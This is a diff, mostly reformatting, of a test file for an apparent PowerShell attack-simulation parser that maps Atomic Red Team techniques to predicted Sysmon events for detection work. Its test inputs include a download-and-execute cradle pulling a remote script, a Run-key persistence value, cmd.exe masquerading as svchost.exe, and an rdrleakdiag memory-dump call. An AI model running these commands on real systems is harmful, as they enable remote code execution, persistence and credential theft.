@@ -28,7 +28,10 @@ describe('PowerShell', () => {
   });
   it('Start-Process with positional arguments', () => expect(children('Start-Process notepad.exe')).toEqual(['"C:\\Windows\\System32\\notepad.exe"']));
   it('finds commands inside blocks, pipelines and after keywords', () => {
-    expect(children('if ($true) { ipconfig /all } else { }\nGet-Process | ForEach-Object { tasklist }')).toEqual(['"C:\\Windows\\System32\\ipconfig.exe" /all', '"C:\\Windows\\System32\\tasklist.exe"']);
+    expect(children('if ($true) { ipconfig /all } else { }\nGet-Process | ForEach-Object { tasklist }')).toEqual([
+      '"C:\\Windows\\System32\\ipconfig.exe" /all',
+      '"C:\\Windows\\System32\\tasklist.exe"',
+    ]);
   });
   it('ignores comments and strings that look like commands', () => {
     expect(children('# whoami\nWrite-Host "whoami"\n<# net user #>')).toEqual([]);
@@ -38,18 +41,32 @@ describe('PowerShell', () => {
   });
   it('nested powershell -EncodedCommand', () => {
     const encoded = Buffer.from('whoami', 'utf16le').toString('base64');
-    expect(children(`powershell.exe -EncodedCommand ${encoded}`)).toEqual([`"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -EncodedCommand ${encoded}`, '"C:\\Windows\\System32\\whoami.exe"']);
+    expect(children(`powershell.exe -EncodedCommand ${encoded}`)).toEqual([
+      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -EncodedCommand ${encoded}`,
+      '"C:\\Windows\\System32\\whoami.exe"',
+    ]);
   });
   it('Invoke-CimMethod Win32_Process Create starts the process under WmiPrvSE', () => {
-    expect(processes(run('powershell', "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = 'calc.exe'}"))[1]).toMatchObject({ Image: 'C:\\Windows\\System32\\calc.exe', ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' });
+    expect(
+      processes(run('powershell', "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = 'calc.exe'}"))[1],
+    ).toMatchObject({ Image: 'C:\\Windows\\System32\\calc.exe', ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' });
   });
   it('Set-ItemProperty writes the registry (Sysmon 13) as powershell.exe', () => {
     expect(ofCategory(run('powershell', 'Set-ItemProperty -Path "HKCU:\\Software\\X" -Name "Run" -Value "evil.exe"'), 'registry_set')).toEqual([
-      { EventID: 13, EventType: 'SetValue', Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1001\\Software\\X\\Run', Details: 'evil.exe', User: 'WIN-ATOMIC\\atomic' },
+      {
+        EventID: 13,
+        EventType: 'SetValue',
+        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+        TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1001\\Software\\X\\Run',
+        Details: 'evil.exe',
+        User: 'WIN-ATOMIC\\atomic',
+      },
     ]);
   });
   it('New-ItemProperty -PropertyType DWord', () => {
-    expect(ofCategory(run('powershell', 'New-ItemProperty -Path HKLM:\\SOFTWARE\\X -Name Y -Value 1 -PropertyType DWord -Force'), 'registry_set')[0]?.['Details']).toBe('DWORD (0x00000001)');
+    expect(
+      ofCategory(run('powershell', 'New-ItemProperty -Path HKLM:\\SOFTWARE\\X -Name Y -Value 1 -PropertyType DWord -Force'), 'registry_set')[0]?.['Details'],
+    ).toBe('DWORD (0x00000001)');
   });
 });
 
@@ -67,7 +84,9 @@ describe('powershell.exe arguments', () => {
 describe('parser fixes from real tests', () => {
   it('& $env:SYSTEMROOT\\system32\\runonce.exe runs the program (T1547.014 #2)', async () => {
     const { run, commandLines } = await import('../helpers.ts');
-    expect(commandLines(run('powershell', '& $env:SYSTEMROOT\\system32\\runonce.exe /AlternateShellStartup'))).toContain('"C:\\Windows\\system32\\runonce.exe" /AlternateShellStartup');
+    expect(commandLines(run('powershell', '& $env:SYSTEMROOT\\system32\\runonce.exe /AlternateShellStartup'))).toContain(
+      '"C:\\Windows\\system32\\runonce.exe" /AlternateShellStartup',
+    );
   });
 });
 
@@ -95,12 +114,19 @@ describe('programs by name and values that are not known', () => {
   });
   it('a program named by a missing payload function is not guessed (T1070.006 #8: timestomp from an unavailable script)', async () => {
     const { simulateTest } = await import('../../../src/lib/simulate/harness.ts');
-    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://example.org/timestomp.ps1')\ntimestomp -dest x" });
+    const run = simulateTest({
+      guid: 'g',
+      platforms: ['windows'],
+      executor: 'powershell',
+      elevationRequired: false,
+      commandResolved: "IEX (iwr 'https://example.org/timestomp.ps1')\ntimestomp -dest x",
+    });
     expect(run.events.filter((e) => e.fields['EventID'] === 1).length).toBe(1);
   });
   it('a variable assigned different values in branches is unknown (T1003.001 #13)', async () => {
     const { run, processes } = await import('../helpers.ts');
-    const script = 'if (Test-Path x) {\n  $binary_path = "C:\\Windows\\System32\\rdrleakdiag.exe"\n} else {\n  $binary_path = "File not found"\n}\n& $binary_path /p 1';
+    const script =
+      'if (Test-Path x) {\n  $binary_path = "C:\\Windows\\System32\\rdrleakdiag.exe"\n} else {\n  $binary_path = "File not found"\n}\n& $binary_path /p 1';
     expect(processes(run('powershell', script)).map((f) => f['Image'])).toEqual(['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe']);
   });
 });
@@ -108,7 +134,12 @@ describe('programs by name and values that are not known', () => {
 describe('parenthesised concatenations', () => {
   it('copy and Start-Process with ($env:TEMP + "\\svchost.exe") run the renamed cmd.exe (T1036.003 #7)', async () => {
     const { run, processes } = await import('../helpers.ts');
-    const p = processes(run('powershell', 'copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")\n$myT1036_003 = (Start-Process -PassThru -FilePath ($env:TEMP + "\\svchost.exe")).Id\nStop-Process -ID $myT1036_003'));
+    const p = processes(
+      run(
+        'powershell',
+        'copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")\n$myT1036_003 = (Start-Process -PassThru -FilePath ($env:TEMP + "\\svchost.exe")).Id\nStop-Process -ID $myT1036_003',
+      ),
+    );
     expect(p[1]).toMatchObject({ Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\svchost.exe', OriginalFileName: 'Cmd.Exe' });
   });
 });
